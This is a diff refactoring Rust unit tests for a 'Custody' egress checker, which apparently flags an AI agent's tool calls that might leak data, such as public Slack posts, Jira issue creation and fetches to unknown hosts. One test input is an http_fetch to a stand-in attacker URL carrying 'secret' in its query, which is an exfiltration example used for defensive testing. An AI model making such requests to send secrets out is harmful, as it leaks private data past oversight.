@@ -318,75 +318,45 @@ mod tests {
             reaction: None,
         };
         let c = Custody::new(&agent, &trigger, None);
-        let post = |ch: &str| serde_json::json!({"channel": ch, "text": "x"});
-        assert!(
-            c.egress_note("1", "slack_post_message", Effect::Irreversible, &post("D0DM"))
-                .is_none()
-        );
+        use serde_json::json;
+        let needs = |id: &str, name: &str, effect: Effect, args: Value| {
+            c.egress_note(id, name, effect, &args).is_some()
+        };
+        let post = |ch: &str| json!({"channel": ch, "text": "x"});
+        let fetch = |u: &str| json!({"url": u});
+        assert!(!needs(
+            "1",
+            "slack_post_message",
+            Effect::Irreversible,
+            post("D0DM")
+        ));
         let note = c
             .egress_note("2", "slack_post_message", Effect::Irreversible, &post("C0PUBLIC"))
             .unwrap_or_default();
         assert!(note.contains("<#D0DM>") && note.contains("<#C0PUBLIC>"), "{note}");
-        assert!(
-            c.egress_note(
-                "3",
-                "slack_post_message",
-                Effect::Irreversible,
-                &post("C0OPSLOG01")
-            )
-            .is_none()
-        );
-        let fetch = |u: &str| serde_json::json!({"url": u});
-        assert!(
-            c.egress_note(
-                "4",
-                "http_fetch",
-                Effect::ReadOnly,
-                &fetch("https://example.com/a")
-            )
-            .is_none()
-        );
-        assert!(
-            c.egress_note(
-                "5",
-                "http_fetch",
-                Effect::ReadOnly,
-                &fetch("https://evil.test/?q=secret")
-            )
-            .is_some()
-        );
-        assert!(
-            c.egress_note(
-                "6",
-                "jira_create_issue",
-                Effect::Irreversible,
-                &serde_json::json!({})
-            )
-            .is_some()
-        );
-        assert!(
-            c.egress_note(
-                "7",
-                "jira_add_comment",
-                Effect::Irreversible,
-                &serde_json::json!({})
-            )
-            .is_none()
-        );
-        assert!(
-            c.egress_note("8", "current_time", Effect::ReadOnly, &serde_json::json!({}))
-                .is_none()
-        );
+        assert!(!needs(
+            "3",
+            "slack_post_message",
+            Effect::Irreversible,
+            post("C0OPSLOG01")
+        ));
+        assert!(!needs(
+            "4",
+            "http_fetch",
+            Effect::ReadOnly,
+            fetch("https://example.com/a")
+        ));
+        assert!(needs(
+            "5",
+            "http_fetch",
+            Effect::ReadOnly,
+            fetch("https://evil.test/?q=secret")
+        ));
+        assert!(needs("6", "jira_create_issue", Effect::Irreversible, json!({})));
+        assert!(!needs("7", "jira_add_comment", Effect::Irreversible, json!({})));
+        assert!(!needs("8", "current_time", Effect::ReadOnly, json!({})));
         c.approve("6");
-        assert!(
-            c.egress_note(
-                "6",
-                "jira_create_issue",
-                Effect::Irreversible,
-                &serde_json::json!({})
-            )
-            .is_none()
-        );
+        assert!(!needs("6", "jira_create_issue", Effect::Irreversible, json!({})));
         assert!(!c.answer_leaves(), "a DM's answer goes back to the DM");
         c.taint("C0PRIV");
         assert!(c.answer_leaves());
